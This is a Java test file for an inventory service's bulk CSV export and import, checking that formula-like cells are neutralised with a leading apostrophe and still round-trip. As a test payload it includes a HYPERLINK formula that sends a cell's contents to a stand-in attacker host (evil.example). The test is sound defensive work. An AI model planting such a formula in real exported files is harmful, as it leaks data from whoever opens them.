package org.crp.inventory.bulk;

import static io.restassured.RestAssured.given;
import static org.crp.inventory.Fixtures.PM;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.crp.inventory.Fixtures;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.oidc.server.OidcWiremockTestResource;
import io.restassured.response.ValidatableResponse;

/**
 * CSV (formula) injection: a device's text that a spreadsheet would run as a formula is exported after an apostrophe,
 * and the export still imports back as the register it was taken from.
 */
@QuarkusTest
@QuarkusTestResource(OidcWiremockTestResource.class)
class FormulaCellsTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    static final String MAC_BLOCK = "02:F0:4D";

    String siteId;
    String siteCode;

    @BeforeEach
    void site() {
        siteId = Fixtures.site();
        siteCode = given().auth().oauth2(PM).when().get("/api/inventory/sites/{id}", siteId).then().extract().path("code");
    }

    String register(Map<String, Object> fields) {
        Map<String, Object> body = Fixtures.device(siteId, null, MAC_BLOCK);
        body.putAll(fields);
        return Fixtures.register(body);
    }

    Map<String, Object> device(String id) {
        return given().auth().oauth2(PM).when().get("/api/inventory/devices/{id}", id).then().statusCode(200)
                .extract().jsonPath().getMap("");
    }

    String export() {
        return given().auth().oauth2(PM).queryParam("siteId", siteId).when().get("/api/inventory/devices/bulk/export")
                .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString();
    }

    ValidatableResponse importCsv(String csv) {
        return given().auth().oauth2(PM).contentType("text/csv").body(csv.getBytes(StandardCharsets.UTF_8))
                .when().post("/api/inventory/devices/bulk/import").then();
    }

    /** The export's rows by device id, each cell as the file holds it (CSV quoting undone, nothing else). */
    static Map<String, CSVRecord> rows(String csv) throws IOException {
        Map<String, CSVRecord> rows = new HashMap<>();
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            for (CSVRecord row : parser) {
                rows.put(row.get("id"), row);
            }
        }
        return rows;
    }

    /** No cell of the file starts as a formula would: each is text to a spreadsheet. */
    static void noCellStartsAFormula(String csv) throws IOException {
        for (CSVRecord row : rows(csv).values()) {
            for (String cell : row.values()) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, cell + " in " + row);
            }
        }
    }

    @Test
    void aDeviceEnteredThroughTheApiIsExportedAsTextAndImportsBackUnchanged() throws IOException {
        String formulas = register(Map.of("model", FORMULA, "assetTag", "+A-1", "declaredManufacturer", "-Hanseong Optics",
                "contractReference", "@SUM(1+1)"));
        String ordinary = register(Map.of("assetTag", "AT-7", "contractReference", "MND-2019-0412", "firmwareVersion", "5.7.3"));
        // the longest model a device takes: the apostrophe makes its cell one longer, which the import does not count
        String longest = register(Map.of("model", "=" + "9".repeat(99), "firmwareVersion", "-12"));
        String quoted = register(Map.of("model", "'=already text", "assetTag", "'plain"));
        Map<String, Map<String, Object>> before = new HashMap<>();
        for (String id : List.of(formulas, ordinary, longest, quoted)) {
            before.put(id, device(id));
        }

        String exported = export();
        Map<String, CSVRecord> rows = rows(exported);
        CSVRecord row = rows.get(formulas);
        assertEquals("'" + FORMULA, row.get("model"));
        assertEquals("'+A-1", row.get("asset_tag"));
        assertEquals("'-Hanseong Optics", row.get("declared_manufacturer"));
        assertEquals("'@SUM(1+1)", row.get("contract_reference"));
        // the raw text: the model's cell is quoted for its commas and quotes, with the apostrophe first inside
        assertTrue(exported.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","), exported);
        assertTrue(exported.contains(",'+A-1,"), exported);
        assertTrue(exported.contains(",'-Hanseong Optics,"), exported);
        assertTrue(exported.contains(",'@SUM(1+1),"), exported);
        CSVRecord plain = rows.get(ordinary);
        assertEquals("DS-2CD2143", plain.get("model"));
        assertEquals("AT-7", plain.get("asset_tag"));
        assertEquals("Hanseong Optics", plain.get("declared_manufacturer"));
        assertEquals("MND-2019-0412", plain.get("contract_reference"));
        assertEquals("5.7.3", plain.get("firmware_version"));
        assertEquals("'-12", rows.get(longest).get("firmware_version"));
        assertEquals(101, rows.get(longest).get("model").length());
        // a value that already starts with an apostrophe before a formula's character gets one more
        assertEquals("''=already text", rows.get(quoted).get("model"));
        assertEquals("'plain", rows.get(quoted).get("asset_tag"));
        noCellStartsAFormula(exported);

        // imported back as exported, the register is left as it was: nothing written, every value as stored
        importCsv(exported).statusCode(200).body("rows", equalTo(4), "created", equalTo(0), "updated", equalTo(0),
                "unchanged", equalTo(4));
        for (String id : before.keySet()) {
            assertEquals(before.get(id), device(id));
        }
        assertEquals("-12", device(longest).get("firmwareVersion"));
        assertEquals("'=already text", device(quoted).get("model"));
    }

    @Test
    void aFormulaImportedFromAFileIsStoredAsTextAndExportedAfterAnApostrophe() throws IOException {
        String serial = "FML" + java.util.UUID.randomUUID().toString().replace("-", "").substring(0, 12);
        String csv = BulkResourceTest.HEADER + CSVFormat.RFC4180.format(serial, "+A-1", FORMULA, "@Maker", "KR",
                Fixtures.mac(MAC_BLOCK), "", "-12", siteCode, "", "", "-C-1", "") + "\r\n";
        importCsv(csv).statusCode(200).body("created", equalTo(1));
        String id = given().auth().oauth2(PM).queryParam("serial", serial).when().get("/api/inventory/devices")
                .then().statusCode(200).extract().path("items[0].id");
        Map<String, Object> stored = device(id);
        assertEquals(FORMULA, stored.get("model"));
        assertEquals("+A-1", stored.get("assetTag"));
        assertEquals("@Maker", stored.get("declaredManufacturer"));
        assertEquals("-12", stored.get("firmwareVersion"));
        assertEquals("-C-1", stored.get("contractReference"));

        String exported = export();
        CSVRecord row = rows(exported).get(id);
        assertEquals("'" + FORMULA, row.get("model"));
        assertEquals("'+A-1", row.get("asset_tag"));
        assertEquals("'@Maker", row.get("declared_manufacturer"));
        assertEquals("'-12", row.get("firmware_version"));
        assertEquals("'-C-1", row.get("contract_reference"));
        noCellStartsAFormula(exported);
        importCsv(exported).statusCode(200).body("created", equalTo(0), "updated", equalTo(0), "unchanged", equalTo(1));
        assertEquals(stored, device(id));
    }

    /**
     * A file written by hand with a spreadsheet's text marker: the one apostrophe before a formula's character is
     * removed, as from an export; an apostrophe before anything else is part of the value.
     */
    @Test
    void anApostropheBeforeAFormulaInAFileIsATextMarker() {
        String serial = "FML" + java.util.UUID.randomUUID().toString().replace("-", "").substring(0, 12);
        String csv = BulkResourceTest.HEADER + CSVFormat.RFC4180.format(serial, "'plain", "'=1+1", "''@Maker", "KR",
                Fixtures.mac(MAC_BLOCK), "", "'-12", siteCode, "", "", "O'Brien", "") + "\r\n";
        importCsv(csv).statusCode(200).body("created", equalTo(1));
        given().auth().oauth2(PM).queryParam("serial", serial).when().get("/api/inventory/devices").then().statusCode(200)
                .body("items[0].assetTag", equalTo("'plain"), "items[0].model", equalTo("=1+1"),
                        "items[0].declaredManufacturer", equalTo("'@Maker"), "items[0].firmwareVersion", equalTo("-12"),
                        "items[0].contractReference", equalTo("O'Brien"));
    }
}
